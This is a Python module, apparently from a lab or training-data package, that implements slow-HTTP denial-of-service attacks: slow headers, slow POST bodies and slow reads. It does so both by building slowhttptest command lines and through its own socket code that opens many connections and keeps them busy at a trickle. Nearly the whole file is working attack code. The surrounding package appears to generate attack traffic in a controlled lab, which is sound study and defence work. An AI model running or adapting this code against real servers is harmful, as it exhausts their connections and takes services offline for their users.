"""Slow HTTP: connections held open with requests that never end, or answers hardly read.

Only `trainer.lab.attacks` calls it, after it has made sure of where it runs.
"""

import contextlib
import random
import select
import socket
import tempfile
import time
from pathlib import Path

from trainer.lab.attack_report import AttackReport
from trainer.lab.observer import observed
from trainer.lab.plan import Attack, Host, Plan
from trainer.lab.programs import run_bounded

_MODES = {"headers": "-H", "body": "-B", "read": "-X"}
_OBJECT_BYTES = 400_000
_WINDOW_BYTES = 2304
"""The kernel's smallest receive buffer (net/core/sock.c, SOCK_MIN_RCVBUF), so that the server has
to wait for the reader."""


def slow_http(plan: Plan, host: Host, attack: Attack, report: AttackReport) -> None:
    """Holds connections open until the time is over."""
    with observed(plan, host, attack, report):
        if attack.settings["tool"] == "script":
            _with_script(attack)
            return
        with tempfile.TemporaryDirectory() as folder:
            command = slowhttptest_command(attack)
            report.said = run_bounded(command, Path(folder), attack.seconds + 0.5)


def slowhttptest_command(attack: Attack) -> list[str]:
    """How slowhttptest is called; its own numbers are whole ones."""
    settings = attack.settings
    interval = max(1, round(settings["interval_s"]))
    command = ["slowhttptest", _MODES[settings["mode"]], "-c", str(int(settings["connections"]))]
    command += ["-r", str(max(1, round(settings["rate"]))), "-l", str(max(1, int(attack.seconds)))]
    if settings["mode"] == "read":
        command += ["-n", str(interval), "-z", "16", "-w", "64", "-y", "256", "-k", "3"]
    else:
        command += ["-i", str(interval), "-x", "12"]
    path = _OBJECT_BYTES if settings["mode"] == "read" else 300
    return [*command, "-u", f"http://{attack.victim}:{attack.port}/{path}"]


def _with_script(attack: Attack) -> None:
    """Opens connections at the rate and feeds all of them in turn."""
    rng = random.Random(attack.seed + 1)
    settings = attack.settings
    start = time.monotonic()
    end = start + attack.seconds
    held: list[tuple[float, socket.socket]] = []
    opened = 0
    try:
        while (now := time.monotonic()) < end:
            may = min(int(settings["connections"]), 1 + int((now - start) * settings["rate"]))
            if opened < may:
                opened += 1
                with contextlib.suppress(OSError):
                    held.append((now + settings["interval_s"], _begin(attack, rng)))
            later = []
            for due, connection in held:
                if due > now:
                    later.append((due, connection))
                elif _feed(settings["mode"], rng, connection):
                    pause_s = settings["interval_s"] * rng.uniform(0.6, 1.4)
                    later.append((now + pause_s, connection))
                else:
                    connection.close()
            held = later
            time.sleep(0.01)
    finally:
        for _, connection in held:
            connection.close()


def _begin(attack: Attack, rng: random.Random) -> socket.socket:
    connection = socket.socket()
    connection.settimeout(2)
    if attack.settings["mode"] == "read":
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, _WINDOW_BYTES)
    connection.connect((attack.victim, attack.port))
    head = "GET" if attack.settings["mode"] != "body" else "POST"
    path = _OBJECT_BYTES if attack.settings["mode"] == "read" else rng.randint(100, 900)
    text = f"{head} /{path} HTTP/1.1\r\nHost: lab.example.net\r\nUser-Agent: lab/1.0\r\n"
    if attack.settings["mode"] == "body":
        text += f"Content-Length: {rng.randint(2000, 9000)}\r\n\r\n"
    elif attack.settings["mode"] == "read":
        text += "\r\n"
    connection.sendall(text.encode())
    return connection


def _feed(mode: str, rng: random.Random, connection: socket.socket) -> bool:
    """The next piece of a connection; false if the server has given it up."""
    try:
        if mode == "read":
            return bool(connection.recv(rng.randint(1, 256)))
        if select.select([connection], [], [], 0)[0] and not connection.recv(4096):
            return False
        if mode == "body":
            connection.sendall(b"a" * rng.randint(1, 8))
        else:
            connection.sendall(f"X-{rng.getrandbits(24):x}: {rng.getrandbits(16)}\r\n".encode())
    except OSError:
        return False
    return True
